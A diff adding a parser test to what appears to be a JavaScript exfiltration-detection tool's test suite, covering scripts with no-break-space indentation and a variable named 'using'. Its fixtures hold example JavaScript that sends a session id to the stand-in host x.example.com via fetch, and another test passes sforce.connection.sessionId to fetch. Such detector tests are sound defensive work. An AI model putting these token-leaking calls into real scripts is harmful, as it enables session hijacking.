@@ -287,6 +287,16 @@ def test_parse_errors_are_reported_and_sources_before_them_kept() -> None:
     assert ir.sources and ir.url_uses
 
 
+def test_valid_script_the_grammar_refuses_is_read_without_a_parse_note() -> None:
+    """A line indented with no-break spaces that continues an expression, and jQuery UI's
+    `using = function (...)` (a variable, not a declaration): no note; what follows is followed."""
+    ir = lower("var p = load()\n\u00a0\u00a0\u00a0\u00a0.then(function (r) { return r; });\n"
+               "var using;\nif (true) {\n  using = function (props) { return props; };\n}\n"
+               + SID + "fetch('https://x.example.com/?s=' + sid);\n")
+    assert not ir.notifications
+    assert sink(ir, "fetch").url.startswith("https://x.example.com/")
+
+
 def test_deeply_nested_code_does_not_exhaust_the_stack() -> None:
     lower("var " + "[" * 5000 + "a" + "]" * 5000 + " = sforce.connection.sessionId;")
     lower("x = sforce.connection.sessionId" + " + a" * 20000 + "; fetch(x);")
